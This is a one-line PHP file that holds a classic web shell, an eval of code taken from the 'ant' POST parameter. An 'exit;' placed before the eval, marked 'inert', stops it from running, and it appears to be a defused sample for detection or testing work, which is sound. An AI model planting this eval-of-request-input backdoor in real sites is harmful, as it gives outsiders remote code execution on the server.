<?php exit; /* inert */ @eval($_POST['ant']);?>
